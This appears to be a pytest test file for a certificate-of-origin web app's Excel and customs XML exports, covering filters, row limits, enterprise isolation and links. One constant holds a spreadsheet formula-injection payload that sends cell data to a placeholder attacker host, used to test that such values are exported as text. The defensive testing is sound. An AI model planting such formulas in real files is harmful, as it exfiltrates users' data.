"""Exports a clerk downloads (issue 16): 证书查询's results as .xlsx (the conditions first, then the list's columns,
every matching row), one certificate with its goods as .xlsx, and the certificate as the customs import XML.

Each file is opened as the clerk's spreadsheet program would (openpyxl, lxml) and read cell by cell.
"""
import io
import re
from urllib.parse import quote

import openpyxl
import pytest
from lxml import etree

from app.certificates.fieldspecs import BASIC_FIELDS, GOODS_FIELDS
from app.certificates.models import Certificate
from app.certificates.types import TYPES
from app.exchange import customs_import
from app.extensions import db
from tests.support import GENERAL_BASIC, GOODS_ROW

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
EVIL = '=HYPERLINK("http://evil.example/?"&A2,"点击")'
COLUMNS = ["证书号", "类型", "申请日期", "目的地", "发票号", "状态", "更新时间"]


def _book(response):
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    assert response.mimetype == XLSX and response.headers["Cache-Control"] == "no-store"
    return openpyxl.load_workbook(io.BytesIO(response.get_data()))


def _values(sheet) -> list[list]:
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def _cert(app, cert_id) -> Certificate:
    with app.app_context():
        cert = db.session.get(Certificate, cert_id)
        db.session.expunge_all()
        return cert


def _set(app, cert_id, **values):
    with app.app_context():
        cert = db.session.get(Certificate, cert_id)
        for name, value in values.items():
            setattr(cert, name, value)
        db.session.commit()


@pytest.fixture
def clerk(client, cast, log_in):
    log_in("clerk_a")
    return client


@pytest.fixture
def three(app, make_certificate):
    """Two certificates to Germany, one to Japan, with different invoice numbers and dates."""
    a = make_certificate(items=1, invoice_no="INV-2026-001", application_date="2026-11-02")
    b = make_certificate(items=1, invoice_no="JT/8899", destination_country="JP", application_date="2026-11-10")
    c = make_certificate(items=1, invoice_no="ZZ-1", application_date="2026-11-20", cert_type="M")
    return a, b, c


# ---------------------------------------------------------------- 证书查询 导出Excel
def test_it_exports_the_results_with_the_conditions_first(app, clerk, three):
    a, _b, c = three
    response = clerk.get("/certificates/export.xlsx?destination=德国&sort=cert_no")
    assert f"filename*=UTF-8''{quote('证书查询_')}" in response.headers["Content-Disposition"]
    sheet = _book(response)["证书查询"]
    rows = _values(sheet)
    assert rows[0][0] == "导出" and re.fullmatch(r"甲进出口有限公司 \d{4}-\d\d-\d\d \d\d:\d\d", rows[0][1])
    assert rows[1][:2] == ["目的地国家/地区", "DE 德国"]
    assert rows[2][:2] == ["排序", "证书号"]
    assert rows[3][:2] == ["结果", "共 2 票"]
    assert all(value is None for value in rows[4])  # a blank line before the table
    assert rows[5] == COLUMNS
    assert sheet.cell(row=6, column=1).font.b  # the header is bold
    first, second = _cert(app, a), _cert(app, c)
    assert rows[6][:6] == [first.cert_no, "一般原产地证", "2026-11-02", "DE 德国", "INV-2026-001", "暂存"]
    assert rows[7][:6] == [second.cert_no, "中国-欧盟蘑菇罐头原产地证", "2026-11-20", "DE 德国", "ZZ-1", "暂存"]
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d", rows[6][6])
    assert len(rows) == 8  # nothing but the two certificates to Germany


def test_every_condition_is_stated_as_the_query_form_names_it(app, clerk, three):
    query = ("cert_no=c26&cert_type=C&status=draft&date_from=2026-11-01&date_to=2026-11-30&destination=XX"
             "&invoice=ＩＮＶ－２０２６&goods=牙刷&creator=%22clerk_a%22&sort=old")
    rows = _values(_book(clerk.get(f"/certificates/export.xlsx?{query}"))["证书查询"])
    conditions = {row[0]: row[1] for row in rows[1:12] if row[0]}
    assert conditions == {
        "证书号": "C26", "证书类型": "一般原产地证", "状态": "暂存", "申请日期 从": "2026-11-01",
        "申请日期 至": "2026-11-30", "目的地国家/地区": "XX（没有这个国家/地区，请输入代码、中文或英文名称，未作为条件）",
        "发票号": "INV-2026", "货物名称/HS": "牙刷", "创建人": "\"clerk_a\"（仅此用户名）", "排序": "最早在前",
        "结果": "共 1 票"}
    header = next(i for i, row in enumerate(rows) if row == COLUMNS)
    assert [row[0] for row in rows[header + 1:]] == [_cert(app, three[0]).cert_no]


def test_no_condition_says_so_and_exports_every_row_not_just_the_page(app, clerk, make_certificate):
    ids = [make_certificate(items=0) for _ in range(23)]  # more than one page of 20
    page = clerk.get("/certificates").get_data(as_text=True)
    assert page.count('class="code cert-link"') == 20
    rows = _values(_book(clerk.get("/certificates/export.xlsx"))["证书查询"])
    assert rows[1][:2] == ["查询条件", "无（全部证书）"] and rows[2][:2] == ["排序", "最新在前"]
    assert rows[3][:2] == ["结果", "共 23 票"]
    numbers = [row[0] for row in rows[rows.index(COLUMNS) + 1:]]
    assert numbers == [_cert(app, cert_id).cert_no for cert_id in reversed(ids)]  # newest first, as listed


def test_the_export_holds_only_the_own_enterprises_certificates(client, three, log_in):
    log_in("clerk_b")
    rows = _values(_book(client.get("/certificates/export.xlsx"))["证书查询"])
    assert rows[0][1].startswith("乙贸易有限公司 ") and rows[3][:2] == ["结果", "共 0 票"]
    assert rows[-1] == COLUMNS  # the header, and no row of enterprise A


def test_a_formula_typed_into_a_field_is_exported_as_text(app, clerk, make_certificate):
    cert_id = make_certificate(items=0)
    _set(app, cert_id, invoice_no=EVIL)
    sheet = _book(clerk.get("/certificates/export.xlsx"))["证书查询"]
    cell = next(row[4] for row in sheet.iter_rows() if row[0].value == _cert(app, cert_id).cert_no)
    assert cell.value == EVIL and cell.data_type == "s"  # shown as text, never run


def test_a_change_certificate_and_a_declaration_number_read_as_in_the_list(app, clerk, make_certificate):
    cert_id = make_certificate(items=0)
    _set(app, cert_id, kind="change", original_cert_no="C263100000019999", declaration_no="CH3100A0001-2026-1")
    cert = _cert(app, cert_id)
    rows = _values(_book(clerk.get("/certificates/export.xlsx"))["证书查询"])
    assert rows[-1][0] == f"{cert.cert_no} 更改证\n声明编号 CH3100A0001-2026-1"


def test_the_list_offers_the_export_with_its_own_conditions(clerk, three):
    html = clerk.get("/certificates?destination=DE&sort=cert_no&page=1").get_data(as_text=True)
    link = re.search(r'<a href="([^"]+)" class="button" id="export-xlsx" hx-boost="false" download', html)
    assert link and link.group(1) == "/certificates/export.xlsx?destination=DE&amp;sort=cert_no"
    fragment = clerk.get("/certificates?invoice=ZZ", headers={"HX-Request": "true", "HX-Target": "query-results"})
    text = fragment.get_data(as_text=True)
    assert "<html" not in text and 'href="/certificates/export.xlsx?invoice=ZZ"' in text


def test_more_results_than_one_file_takes_are_refused_with_the_count(app, clerk, three):
    app.config["QUERY_EXPORT_MAX_ROWS"] = 2
    html = clerk.get("/certificates").get_data(as_text=True)
    assert 'id="export-xlsx"' not in html
    assert "导出Excel 一次最多 2 票：请缩小条件（如申请日期）后分批导出" in html
    rows = _values(_book(clerk.get("/certificates/export.xlsx"))["证书查询"])
    assert rows[3][1] == ("符合条件的证书共 3 票，超过一次导出 2 票的上限，未导出；"
                          "请缩小条件（如申请日期、证书类型、状态）后分批导出。")
    assert rows[-1] == COLUMNS  # no row at all rather than some of them
    assert 'id="export-xlsx"' in clerk.get("/certificates?destination=JP").get_data(as_text=True)


# ---------------------------------------------------------------- one certificate as .xlsx
def test_a_certificate_exports_with_its_basic_information_and_goods(app, clerk, make_certificate):
    cert_id = make_certificate(items=2)
    cert = _cert(app, cert_id)
    response = clerk.get(f"/certificates/{cert_id}/export.xlsx")
    assert f"filename*=UTF-8''{quote(f'一般原产地证_{cert.cert_no}.xlsx')}" in response.headers["Content-Disposition"]
    book = _book(response)
    assert book.sheetnames == ["基本信息", "货物信息"]
    basic = _values(book["基本信息"])
    assert basic[0] == ["栏目", "内容"]
    assert basic[1:8] == [["证书号", cert.cert_no], ["证书类型", "一般原产地证"], ["证书种类", "新证"],
                          ["状态", "暂存"], ["产地证备案号", "310000001"], ["组织机构代码", "91350100M000100Y43"],
                          ["公司中文名称", "甲进出口有限公司"]]
    fields = dict(basic[8:])
    assert list(fields) == [BASIC_FIELDS[name].label for name in TYPES["C"].basic_fields]
    assert fields["出口商名称"] == GENERAL_BASIC["exporter_name"]
    assert fields["收货人（进口商）地址"] == GENERAL_BASIC["importer_address"]
    assert fields["申请日期"] == "2026-11-20" and fields["发票日期"] == "2026-11-18"
    assert fields["目的地国家/地区"] == "DE 德国" and fields["签证机构"] == "2200 上海海关"
    assert fields["贸易方式"] == "0110 一般贸易" and fields["启运港"] == "CNSHA 上海"
    assert fields["卸货港"] == "DEHAM 汉堡" and fields["运输方式"] == "2 水路运输"
    assert fields["唛头"] == "N/M" and fields["发票号"] == "INV-2026-001" and fields["出口商传真"] is None
    goods = book["货物信息"]
    header = [cell.value for cell in goods[1]]
    assert header == ["项号"] + [GOODS_FIELDS[name].label for name in TYPES["C"].goods_fields]
    assert goods.max_row == 3
    for number, row in enumerate(goods.iter_rows(min_row=2), start=1):
        value = {name: cell for name, cell in zip(header, row)}
        assert value["项号"].value == number
        assert value["HS编码"].value == "960321" and value["货物中文名称"].value == "牙刷"
        assert value["货物英文名称"].value == "TOOTHBRUSH" and value["货物描述"].value == GOODS_ROW["description"]
        assert value["数量"].value == 20000 and value["数量"].data_type == "n" and value["数量单位"].value == "PCS"
        assert value["包装件数"].value == 2000 and value["包装单位"].value == "CTNS"
        assert (value["毛重"].value, value["净重"].value, value["重量单位"].value) == (1200, 1000, "KGS")
        assert (value["金额（FOB）"].value, value["币制"].value) == (5000, "USD")
        assert value["非货物项"].value == "否"


def test_the_japan_materials_get_a_sheet_of_their_own(app, clerk, make_certificate):
    cert_id = make_certificate(items=1, cert_type="G", materials=1, destination_country="JP",
                               application_date="2019-03-01")  # GSP to Japan: before Japan ended it
    book = _book(clerk.get(f"/certificates/{cert_id}/export.xlsx"))
    assert book.sheetnames == ["基本信息", "货物信息", "日本进料信息"]
    assert _values(book["日本进料信息"]) == [["项号", "HS编码", "材料描述", "数量", "单位", "价值"],
                                         [1, "3907", "POLYPROPYLENE RESIN", 120, "PCS", 860]]
    goods = _values(book["货物信息"])
    assert "原产地标准" in goods[0]  # a GSP goods row has its criterion column


def test_a_formula_in_a_certificate_field_is_text_in_the_workbook(app, clerk, make_certificate):
    cert_id = make_certificate(items=1)
    _set(app, cert_id, exporter_name=EVIL)
    sheet = _book(clerk.get(f"/certificates/{cert_id}/export.xlsx"))["基本信息"]
    cell = next(row[1] for row in sheet.iter_rows() if row[0].value == "出口商名称")
    assert cell.value == EVIL and cell.data_type == "s"


def test_the_toolbar_and_the_query_detail_link_to_both_downloads(clerk, make_certificate):
    cert_id = make_certificate(items=1)
    for page in (f"/certificates/{cert_id}", f"/certificates/{cert_id}/detail"):
        html = clerk.get(page).get_data(as_text=True)
        for url, label in ((f"/certificates/{cert_id}/export.xlsx", "导出Excel"),
                           (f"/certificates/{cert_id}/customs.xml", "导出海关导入XML")):
            link = re.search(rf'<a href="{re.escape(url)}"[^>]*>([^<]+)</a>', html)
            assert link and link.group(1) == label, (page, url)
            assert 'hx-boost="false"' in link.group(0) and " download" in link.group(0)


@pytest.mark.parametrize("url", ["/certificates/{id}/export.xlsx", "/certificates/{id}/customs.xml"])
def test_another_enterprises_certificate_is_not_found(client, cast, log_in, make_certificate, url):
    cert_id = make_certificate(items=1)
    log_in("clerk_b")
    assert client.get(url.format(id=cert_id)).status_code == 404


# ---------------------------------------------------------------- the customs import XML
def test_the_customs_xml_carries_the_certificate(app, clerk, make_certificate):
    cert_id = make_certificate(items=2)
    _set(app, cert_id, third_party_invoice=True, special_terms="THIRD PARTY: ABC LTD, HONG KONG")
    cert = _cert(app, cert_id)
    response = clerk.get(f"/certificates/{cert_id}/customs.xml")
    assert response.status_code == 200 and response.mimetype == "application/xml"
    assert f"filename*=UTF-8''{quote(f'海关导入_{cert.cert_no}.xml')}" in response.headers["Content-Disposition"]
    root = etree.fromstring(response.get_data())  # well-formed, UTF-8 declared
    assert root.getroottree().docinfo.encoding == "UTF-8" and root.tag == customs_import.ROOT
    head = root.find(customs_import.SECTIONS["head"].element)
    assert head.findtext("CertNo") == cert.cert_no and head.findtext("ExporterName") == GENERAL_BASIC["exporter_name"]
    assert head.findtext("ApplyDate") == "2026-11-20" and head.findtext("DestCountry") == "DE"
    goods = root.find(customs_import.SECTIONS["item"].element)
    assert [g.findtext("GoodsNo") for g in goods] == ["1", "2"]
    assert goods[0].findtext("HsCode") == "960321" and goods[0].findtext("Quantity") == "20000"
    party = root.find(customs_import.SECTIONS["non_party"].element)
    assert party.findtext("NonPartyCorpInfo") == "THIRD PARTY: ABC LTD, HONG KONG"
    invoice = root.find(customs_import.SECTIONS["invoice"].element)
    assert (invoice.findtext("InvoiceNo"), invoice.findtext("InvoiceDate"), invoice.findtext("InvoiceAmount"),
            invoice.findtext("InvoiceCurrency")) == ("INV-2026-001", "2026-11-18", "10000", "USD")
    assert root.find(customs_import.SECTIONS["change"].element) is None  # a new certificate: no change section
    assert "元素名未经核实" in response.get_data(as_text=True)


def test_a_reissue_carries_its_original_and_reason(app, clerk, make_certificate):
    cert_id = make_certificate(items=1)
    _set(app, cert_id, kind="reissue", original_cert_no="C263100000019999", reason="原证书遗失")
    root = etree.fromstring(clerk.get(f"/certificates/{cert_id}/customs.xml").get_data())
    change = root.find(customs_import.SECTIONS["change"].element)
    assert (change.findtext("ApplyKind"), change.findtext("OriginalCertNo"), change.findtext("Reason")) == (
        "reissue", "C263100000019999", "原证书遗失")
    assert root.find(customs_import.SECTIONS["non_party"].element) is None  # not a third-party invoice

